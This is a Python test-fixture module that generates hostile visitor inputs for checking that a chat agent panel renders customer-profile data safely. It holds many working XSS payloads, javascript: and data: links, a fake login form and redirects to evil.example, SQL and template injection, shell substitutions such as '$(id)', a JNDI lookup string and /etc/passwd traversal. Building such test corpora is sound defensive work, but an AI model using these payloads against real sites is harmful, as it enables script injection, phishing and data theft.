"""Hostile texts, as a visitor may send them to break a page: by kind, each with its aim.

Most of it is composed by rules: a context that the text tries to leave, times what it tries to put
there. Whatever would run sets `window.pwned`, so a test can ask whether something did.

Source: the parsing rules of the HTML standard, and the bidirectional algorithm of Unicode.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Final

MEGABYTE: Final = 1_000_000
MANY: Final = 10_000
_RUN: Final = "window.pwned=1"
_ELSEWHERE: Final = "https://evil.example/"


@dataclass(frozen=True)
class Hostile:
    """One text.

    Args:
        kind: What sort of attack it is.
        why: Its aim.
        text: The text itself; may hold lone surrogates.
    """

    kind: str
    why: str
    text: str

    def __str__(self) -> str:
        """A name for a test's report."""
        return f"{self.kind}: {self.why}: {self.text[:40]!a}"

    @property
    def is_an_address(self) -> bool:
        """Whether it has the form of an e-mail address, so that the panel makes it a link."""
        return self.kind == "address"


# --- Markup

# What may stand before the text, and has to be left before an element can begin.
CONTEXTS: Final = {
    "text": "%s",
    "a double-quoted attribute": '">%s',
    "a single-quoted attribute": "'>%s",
    "the elements around a value": "</bdi></dd></div></dl></section></main>%s",
    "a title": "</title>%s",
    "a text area": "</textarea>%s",
    "a script": "</script>%s",
    "a style": "</style>%s",
    "a template": "</template>%s",
    "a comment": "-->%s<!--",
    "a CDATA section": "]]>%s",
    "a picture": "</path></svg>%s",
}

# What an attacker would like to be an element.
ELEMENTS: Final = {
    "a script": f"<script>{_RUN}</script>",
    "a script from elsewhere": f"<script src={_ELSEWHERE}x.js></script>",
    "an image that fails": f"<img src=x: onerror={_RUN}>",
    "an unclosed image": f"<img src=x: onerror={_RUN}//",
    "an image without spaces": f"<img/src=x:/onerror={_RUN}>",
    "a drawing": f"<svg onload={_RUN}></svg>",
    "a script in a drawing": f"<svg><script>{_RUN}</script></svg>",
    "an animation of a drawing": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "a change of namespaces": f"<math><mtext><table><mglyph><style><img src=x: onerror={_RUN}>",
    "a frame": f"<iframe src={_ELSEWHERE}></iframe>",
    "a frame with its own page": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "a form": f"<form action={_ELSEWHERE}><input name=password><button>Log in</button></form>",
    "a link with a script": f'<a href="javascript:{_RUN}">here</a>',
    "a link to elsewhere": f'<a href="{_ELSEWHERE}" target=_top>here</a>',
    "a base": f"<base href={_ELSEWHERE}>",
    "a redirection": f'<meta http-equiv=refresh content="0;url={_ELSEWHERE}">',
    "a style sheet": f"<link rel=stylesheet href={_ELSEWHERE}x.css>",
    "a style": "<style>*{display:none}</style>",
    "an object": f"<object data={_ELSEWHERE}></object>",
    "an embedded page": f"<embed src={_ELSEWHERE}>",
    "a video": f"<video><source onerror={_RUN}></video>",
    "details that open": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    "a field with the focus": f"<input autofocus onfocus={_RUN}>",
    "a text moving by itself": f"<marquee onstart={_RUN}>x</marquee>",
    "a body": f"<body onload={_RUN}>",
    "an unknown element": f"<x-y onclick={_RUN} tabindex=1 autofocus onfocus={_RUN}>x</x-y>",
    "another panel": '<main id=panel data-state="profile"><b data-field=id>S1</b></main>',
    "a button of the panel": '<button data-action="agentapp:reload">Copy</button>',
    "a template with a shadow": "<div><template shadowrootmode=open><b>x</b></template></div>",
}


def _markup() -> Iterator[Hostile]:
    for left, context in CONTEXTS.items():
        for element, payload in ELEMENTS.items():
            yield Hostile("markup", f"{element}, out of {left}", context % payload)


def _tags_that_never_end() -> Iterator[Hostile]:
    for start in ("<", "</", "<!", "<!--", "<?", "<![CDATA[", "<a", "<a b", "<a b=", '<a b="', "&"):
        yield Hostile("unfinished", "swallows what follows it", f"x {start}")
    for tag in ("plaintext", "xmp", "noscript", "textarea", "title", "select", "table", "frameset"):
        yield Hostile("unfinished", "makes what follows it something else", f"<{tag}>")


# --- Attributes

ATTRIBUTES: Final = {
    "a handler": f"autofocus onfocus={_RUN}",
    "a style": "style=position:fixed;inset:0;background:red",
    "an action of the panel": "data-action=agentapp:reload",
    "the panel's id": "id=panel",
    "a field": "data-field=id",
    "a destination": f"href={_ELSEWHERE}",
}


def _attributes() -> Iterator[Hostile]:
    for name, attribute in ATTRIBUTES.items():
        for quote in ('"', "'", "`", ""):
            yield Hostile(
                "attribute", f"{name}, behind {quote or 'nothing'}", f"x{quote} {attribute} {quote}"
            )


def _encoded() -> Iterator[Hostile]:
    tag = f"<img src=x: onerror={_RUN}>"
    forms = {
        "entities": tag.replace("<", "&lt;").replace(">", "&gt;"),
        "entities, twice": tag.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
        "decimal references": tag.replace("<", "&#60;").replace(">", "&#62;"),
        "references without an end": tag.replace("<", "&#60").replace(">", "&#62"),
        "hexadecimal references": tag.replace("<", "&#x3c;").replace(">", "&#x3E;"),
        "long references": tag.replace("<", "&#000000060;"),
        "named references": tag.replace("<", "&LT;").replace(">", "&GT;"),
        "a quotation mark as a reference": f"&quot;&#34;&#x22; onfocus={_RUN} autofocus",
        "percent signs": tag.replace("<", "%3C").replace(">", "%3E"),
        "percent signs, twice": tag.replace("<", "%253C"),
        "escapes of JavaScript": tag.replace("<", "\\u003c").replace(">", "\\x3e"),
        "escapes of CSS": tag.replace("<", "\\3c "),
        "UTF-7": f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
        "full-width letters": f"＜script＞{_RUN}＜/script＞",
        "letters that look alike": f"‹script›{_RUN}‹/script›",
        "overlong UTF-8, read as Latin-1": f"\xc0\xbcscript\xc0\xbe{_RUN}",
        "a shift of a Japanese code": f"\x1b$B<script>{_RUN}</script>",
        "NUL within a tag": f"<scr\0ipt>{_RUN}</scr\0ipt>",
        "a form feed within a tag": f"<img\fsrc=x:\fonerror={_RUN}>",
        "a soft hyphen within a tag": f"<scr\xadipt>{_RUN}</scr\xadipt>",
    }
    for why, text in forms.items():
        yield Hostile("encoded", why, text)


# --- Links


def _links() -> Iterator[Hostile]:
    targets = [
        f"javascript:{_RUN}",
        f"JaVaScRiPt:{_RUN}",
        f" javascript:{_RUN}",
        f"\tjava\tscript:{_RUN}",
        f"java\nscript:{_RUN}",
        f"\x01javascript:{_RUN}",
        f"javascript&colon;{_RUN}",
        f"javascript://%0a{_RUN}",
        f"javascript:{_RUN}//@b.example",
        f"vbscript:{_RUN}",
        f"data:text/html,<script>parent.{_RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
        "blob:https://evil.example/0",
        "file:///etc/passwd",
        "//evil.example",
        "\\\\evil.example",
        _ELSEWHERE,
        "https://my.livechatinc.com@evil.example/",
        "https://evil.example#@my.livechatinc.com",
        "tel:+1900000000",
        "intent://evil.example#Intent;end",
        "mailto:a@b.example?bcc=c@evil.example",
        "[here](javascript:window.pwned=1)",
        "a@b.example?cc=c@evil.example",
        "a@b.example,c@evil.example",
        "a@b.example\r\nBcc: c@evil.example",
        "<a@b.example>",
        '"a b"@b.example',
    ]
    for target in targets:
        yield Hostile("link", "leads elsewhere", target)


def _addresses() -> Iterator[Hostile]:
    for user in ("a?cc=b", "a&bcc=b", "a%3fbcc=b", "a%0abcc=b", "a#b", "a/../b", "a'b", "a`b`"):
        yield Hostile("address", "a mail with more fields", f"{user}@b.example")
    for domain in ("evil.example", "xn--80ak6aa92e.example", "аррӏе.example", "b.example" * 20):
        yield Hostile("address", "a domain that looks like another", f"a@{domain}")


# --- What acts on the text around it, or cannot be seen

DIRECTIONS: Final = {
    "\u202a": "embeds left to right",
    "\u202b": "embeds right to left",
    "\u202c": "ends what the panel began",
    "\u202d": "overrides, left to right",
    "\u202e": "overrides, right to left",
    "\u2066": "isolates, left to right",
    "\u2067": "isolates, right to left",
    "\u2068": "isolates, by its first letter",
    "\u2069": "ends what the panel isolated",
    "\u200e": "a mark, left to right",
    "\u200f": "a mark, right to left",
    "\u061c": "a mark, Arabic",
}


def _directions() -> Iterator[Hostile]:
    for character, why in DIRECTIONS.items():
        yield Hostile("direction", why, f"user{character}gpj.exe")
        yield Hostile("direction", f"{why}, over and over", character * 200 + "abc (1)")
    yield Hostile("direction", "all of it right to left", "מרי בראון 123 (שלום)")
    yield Hostile("direction", "numbers that change places", "علي 1-2-3, 4:5")


INVISIBLE: Final = {
    "\u200b": "a space without width",
    "\u200c": "keeps letters apart",
    "\u200d": "joins letters",
    "\u2060": "joins words",
    "\u2061": "applies a function",
    "\ufeff": "a mark of the order of bytes",
    "\u00ad": "a soft hyphen",
    "\u034f": "joins graphemes",
    "\u180e": "separates vowels",
    "\u115f": "a filler",
    "\u3164": "another filler",
    "\u2800": "an empty pattern",
    "\ufe0f": "selects a variation",
    "\U000e0041": "a tag",
    "\u00a0": "a space that does not break",
    "\u3000": "a wide space",
    "\u2028": "ends a line",
    "\u2029": "ends a paragraph",
}


def _invisible() -> Iterator[Hostile]:
    for character, why in INVISIBLE.items():
        yield Hostile("invisible", f"{why}, within a word", f"ad{character}min")
        yield Hostile("invisible", f"{why}, and nothing else", character * 3)


def _controls() -> Iterator[Hostile]:
    for code in (*range(0x20), 0x7F, 0x80, 0x85, 0x90, 0x9B, 0x9F):
        yield Hostile("control", f"U+{code:04X}", f"a{chr(code)}b")
    yield Hostile("control", "colours of a terminal", "\x1b[31mred\x1b[0m\x07")


def _malformed() -> Iterator[Hostile]:
    texts = {
        "half of a pair, high": "a\ud800b",
        "half of a pair, low": "a\udfffb",
        "two halves in the wrong order": "\udc00\ud800",
        "a half at the end": "name\ud83d",
        "a half where a name is cut": "x" * 99 + "\ud83d",
        "a half where a value is cut": "x" * 999 + "\ud83d",
        "a pair where a name is cut": "x" * 99 + "😀😀",
        "no character, U+FFFE": "a\ufffeb",
        "no character, U+FFFF": "a\uffffb",
        "no character beyond the first plane": "a\U0001fffeb",
        "the last code point": "a\U0010ffffb",
        "private use": "a\ue000\U000f0000b",
        "annotations": "a\ufff9b\ufffac\ufffb",
    }
    for why, text in texts.items():
        yield Hostile("malformed", why, text)


# --- Too much of it


def _sizes() -> Iterator[Hostile]:
    texts = {
        "a megabyte of one letter": "a" * MEGABYTE,
        "a megabyte of a letter, right to left": "א" * MEGABYTE,
        "a megabyte of spaces": "a" + " " * MEGABYTE + "b",
        "a megabyte of ends of lines": "a" + "\n" * MEGABYTE + "b",
        "a hundred thousand tags": "<b>" * 100_000,
        "a hundred thousand ampersands": "&" * 100_000,
        "a hundred thousand quotation marks": "\"'" * 50_000,
        "ten thousand brackets": "[{(" * MANY,
        "ten thousand emoji": "👨‍👩‍👧‍👦" * MANY,
        "ten thousand accents on one letter": "Z" + "\u0301\u0316" * MANY,
        "accents on every letter": "".join(c + "\u0300\u0317\u0489" * 12 for c in "Zalgo text"),
        "the widest letter": "﷽" * 500,
        "the highest letter": "𒐫꧅𒈙" * 100,
        "signs that join": "क्" * 500,
        "a long word": "Donaudampfschiff" * 60,
        "many short words": "a " * 5_000,
        "slashes without a space": "/a" * 2_000,
        "tabs": "\t" * 2_000 + "x",
        "an address too long to be one": "a" * 300 + "@b.example",
        "an address of a megabyte": "a@" + "b." * (MEGABYTE // 2),
        "half an address, over and over": "a@" * 50_000,
    }
    for why, text in texts.items():
        yield Hostile("size", why, text)


# --- What programs take for something else

NAMES: Final = (
    *("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "toJSON"),
    *("__defineGetter__", "__class__", "__dict__", "__html__", "__init__", "__missing__", "length"),
    *("then", "innerHTML", "onclick", "attributes", "children", "data-field", "panel", "agentapp"),
    *("section-everything", "LiveChat", "window", "self", "None", "null", "undefined", "NaN", "0"),
)


def _names() -> Iterator[Hostile]:
    for name in NAMES:
        yield Hostile("name", "a key with a meaning of its own", name)


def _code() -> Iterator[Hostile]:
    for text in (
        *("%s %(x)s %d %n %%", "{0} {x} {0.__class__}", "{{7*7}}", "${window.pwned=1}", "#{7*7}"),
        *("{% include 'x' %}", "<%= 7*7 %>", "$& $1 $` $'", "\\1 \\g<0>", "`whoami`", "$(id)"),
        *("'; DROP TABLE customers; --", "' OR '1'='1", "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd"),
        *("__import__('os').abort()", "');window.pwned=1;//", '"}],"id":"S2","x":[{"a":"'),
        *("${jndi:ldap://evil.example/a}", "(a+)+$", "../../etc/passwd", "!!python/object:os.x"),
        *("\\", "\\\\", "\\u0022>", "\\n", "true", "1e999", "-0", "۱۲۳", "²", "½"),
    ):
        yield Hostile("code", "is run, filled in or looked up", text)


def _corpus() -> Iterator[Hostile]:
    seen: set[str] = set()
    for kind in (
        _markup(),
        _tags_that_never_end(),
        _attributes(),
        _encoded(),
        _links(),
        _addresses(),
        _directions(),
        _invisible(),
        _controls(),
        _malformed(),
        _sizes(),
        _names(),
        _code(),
    ):
        for hostile in kind:
            if hostile.text not in seen:
                seen.add(hostile.text)
                yield hostile


CORPUS: Final = tuple(_corpus())

# Everything that may change what elements there are: a name with letters or without, nothing at
# all, nothing that can be seen, and an address, which becomes a link.
HARMLESS: Final = ("x", "-", "", " ", "\u00ad", "a@b.example")


# --- Payloads

_TAKEN = frozenset(
    ("id", "name", "email", "chat", "source", "geolocation", "customVariables", "preChatSurvey")
)


def everywhere(text: str) -> dict[str, Any]:
    """A `customer_profile` with `text` as every value, and wherever the host chooses, every key.

    Where it would be no usable id, the id is another.
    """
    place = ("city", "country", "country_code", "latitude", "longitude", "region", "timezone")
    payload: dict[str, Any] = {
        "id": text if text.strip() else "S1",
        "name": text,
        "email": text,
        "source": text,
        "chat": {"id": text, "groupID": text, "preChatSurvey": [], f"x{text}": text},
        "geolocation": dict.fromkeys(place, text) | {"country": f"2 {text}", "zipcode": text},
        "customVariables": {text: text, f"x {text}": text},
        "preChatSurvey": [{"question": text, "answer": text}, {"question": "x", "answer": text}],
        "tags": [text, {text: [{text: text}]}],
    }
    return payload if text in _TAKEN else payload | {text: text}


def structures() -> dict[str, dict[str, Any]]:
    """Payloads that are hostile by their shape; all of them have a usable id."""
    nested: Any = "deep"
    for level in range(80):
        nested = {"<b>": nested} if level % 2 else [nested]
    many = {f"<b>key {n}</b>": f"<i>{n}</i>" for n in range(MANY)}
    answers = [{"question": f"<b>{n}?</b>", "answer": f"<i>{n}</i>"} for n in range(MANY)]
    prototype = {"__proto__": {"isAdmin": True, "toString": "x"}, "constructor": {"prototype": 1}}
    fields = sorted(_TAKEN - {"id"})
    return {
        "deep nesting": {"id": "S1", "deep": nested},
        "ten thousand keys": {"id": "S1", **many},
        "ten thousand variables": {"id": "S1", "customVariables": many},
        "ten thousand variables, as a list": {
            "id": "S1",
            "customVariables": [{"key": key, "value": value} for key, value in many.items()],
        },
        "ten thousand answers": {"id": "S1", "preChatSurvey": answers},
        "keys of every object": {"id": "S1", "customVariables": prototype, **prototype},
        "keys of every object, in a chat": {"id": "S1", "chat": {"id": "C1", **prototype}},
        "ten thousand long keys": {
            "id": "S1",
            "customVariables": {f"{n}{'k' * 100}": "v" for n in range(MANY)},
        },
        "every field a list": {"id": "S1"} | {field: [[]] for field in fields},
        "every field an object": {"id": "S1"} | {field: {"a": 1} for field in fields},
    }


def as_json(payload: object) -> str:
    """`payload` in ASCII, so that lone surrogates survive on the way into a page."""
    return json.dumps(payload, ensure_ascii=True)
